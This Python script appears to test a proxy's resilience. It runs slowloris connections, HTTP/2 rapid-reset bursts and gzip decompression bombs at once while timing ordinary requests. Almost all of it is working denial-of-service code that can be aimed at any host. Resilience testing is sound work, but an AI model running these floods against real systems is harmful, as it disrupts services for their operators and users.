"""Floods the proxy in every way there is, and asks honest questions meanwhile: FLOOD.py HOST

Prints `calm` before the floods, `flood` when they are all under way, then for each honest request its time in
milliseconds and its status, then `over`.
"""
import gzip, os, resource, selectors, socket, ssl, struct, sys, threading, time
from urllib.parse import urlsplit

host = sys.argv[1]
proxy = urlsplit(os.environ["HTTPS_PROXY"])
_, most = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
context = ssl.create_default_context()
over = threading.Event()


def dial():
    stream = socket.create_connection((proxy.hostname, proxy.port), 10)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return stream


def tunnel():
    stream = dial()
    stream.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    said = b""
    while b"\r\n\r\n" not in said:
        more = stream.recv(4096)
        if not more:
            raise OSError("closed")
        said += more
    if b" 200 " not in said.split(b"\r\n")[0]:
        raise OSError(said.split(b"\r\n")[0].decode())
    return context.wrap_socket(stream, server_hostname=host)


def honest():
    started = time.monotonic()
    try:
        stream = tunnel()
        stream.sendall(f"GET /fine HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        status = stream.recv(64).split(b" ")[1].decode()
        stream.close()
    except OSError as error:
        status = type(error).__name__ + str(error)
    return time.monotonic() - started, status


slow = []


def slowly():
    """Five thousand heads that do not end, each with a byte more from time to time; who is closed comes back."""
    while not over.is_set():
        for index in range(5000):
            if over.is_set():
                return
            try:
                if index < len(slow):
                    slow[index].send(b"x")
                else:
                    stream = dial()
                    stream.setblocking(False)
                    stream.send(f"GET http://{host}/ HTTP/1.1\r\nX-Slow: ".encode())
                    slow.append(stream)
            except OSError:
                if index < len(slow):
                    slow[index].close()
                    slow[index] = dial_again()


def dial_again():
    try:
        stream = dial()
        stream.setblocking(False)
        return stream
    except OSError:
        return socket.socket()


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def resets():
    """HTTP/2: requests that are taken back at once, pings, settings, empty data."""
    while not over.is_set():
        try:
            stream = dial()
            stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            # :method GET, :scheme http, :path /, :authority
            head = b"\x82\x86\x84\x41" + bytes([len(host)]) + host.encode()
            for number in range(1, 20001, 2):
                burst = frame(1, 5, number, head) + frame(3, 0, number, struct.pack(">I", 8)) + frame(6, 0, 0, b"12345678") + frame(4, 0, 0)
                stream.sendall(burst)
        except OSError:
            time.sleep(0.01)


def bombs():
    """Sixteen kilobytes that become sixteen megabytes, again and again."""
    bomb = gzip.compress(bytes(16 << 20), 9)
    head = f"POST /bomb HTTP/1.1\r\nHost: {host}\r\nContent-Encoding: gzip\r\nContent-Length: {len(bomb)}\r\nConnection: close\r\n\r\n"
    while not over.is_set():
        try:
            stream = tunnel()
            stream.sendall(head.encode() + bomb)
            stream.recv(4096)
            stream.close()
        except OSError:
            time.sleep(0.01)


for _ in range(3):
    took, status = honest()
print("calm", status, flush=True)
threading.Thread(target=slowly, daemon=True).start()
# The others keep this interpreter busy, so they begin when the slow ones are there.
deadline = time.monotonic() + 30
while len(slow) < 5000 and time.monotonic() < deadline:
    time.sleep(0.05)
for flood in [resets, resets, bombs]:
    threading.Thread(target=flood, daemon=True).start()
time.sleep(1)
print("flood", len(slow), flush=True)
for _ in range(10):
    took, status = honest()
    print(round(took * 1000), status, flush=True)
over.set()
print("over", flush=True)
